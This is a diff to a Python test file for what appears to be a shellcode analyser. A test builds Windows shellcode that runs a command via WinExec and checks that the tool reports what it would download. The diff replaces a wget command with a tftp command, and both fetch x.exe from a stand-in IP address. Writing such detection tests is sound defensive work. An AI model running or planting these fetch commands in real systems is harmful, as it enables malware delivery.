@@ -44,11 +44,11 @@ def test_a_shellcode_is_found_in_its_wrapping(wrap) -> None:  # type: ignore[no-
 
 
 def test_what_a_command_would_fetch_is_wished() -> None:
-    command = "cmd /c wget http://203.0.113.9/x.exe"
+    command = "cmd /c tftp -g -l x.exe -r x.exe 203.0.113.9"
     findings = examine(windows32(f'push 0\ntext "{command}"\napi WinExec\npush 0\napi ExitProcess'), HOST)
     assert findings.behaviours == (Executes(command),)
-    assert [download.url for download in findings.downloads] == ["http://203.0.113.9/x.exe"]
-    assert findings.sentences() == [f"executes {command}", "would fetch http://203.0.113.9/x.exe"]
+    assert [download.url for download in findings.downloads] == ["tftp://203.0.113.9/x.exe"]
+    assert findings.sentences() == [f"executes {command}", "would fetch tftp://203.0.113.9/x.exe"]
 
 
 def test_what_a_first_stage_would_be_sent_is_wished() -> None:
